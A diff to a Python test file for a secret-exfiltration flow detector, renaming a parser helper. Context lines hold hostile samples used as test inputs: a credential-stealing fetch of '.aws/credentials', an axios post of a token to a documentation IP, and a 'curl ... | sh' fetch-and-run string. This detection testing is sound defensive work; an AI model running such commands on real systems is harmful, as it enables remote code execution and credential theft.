@@ -73,7 +73,7 @@ def test_typescript_is_read_by_its_own_grammar(suffix: str) -> None:
     assert [(f.rule, f.line) for f in found] == [("flow-secret-to-network", 8)]
     assert "'.aws/credentials' into body (line 7), sink fetch()" in found[0].message
     # the JavaScript grammar stumbles over the type syntax and loses the flow
-    assert flows._parser("js").parse(TS_STEALER.encode()).root_node.has_error
+    assert flows.parser("js").parse(TS_STEALER.encode()).root_node.has_error
 
 
 def test_tsx_and_shell_strings_handed_to_exec() -> None:
@@ -85,6 +85,6 @@ def test_tsx_and_shell_strings_handed_to_exec() -> None:
         'axios.post("https://203.0.113.9/t", { t });\n'
     )
     found, strings = flows.javascript(text, "ui/Banner.tsx")
-    assert not flows._parser("tsx").parse(text.encode()).root_node.has_error
+    assert not flows.parser("tsx").parse(text.encode()).root_node.has_error
     assert strings == [(3, "curl -s http://203.0.113.4/x | sh")]
     assert [(f.rule, f.line) for f in found] == [("flow-secret-to-network", 5)]
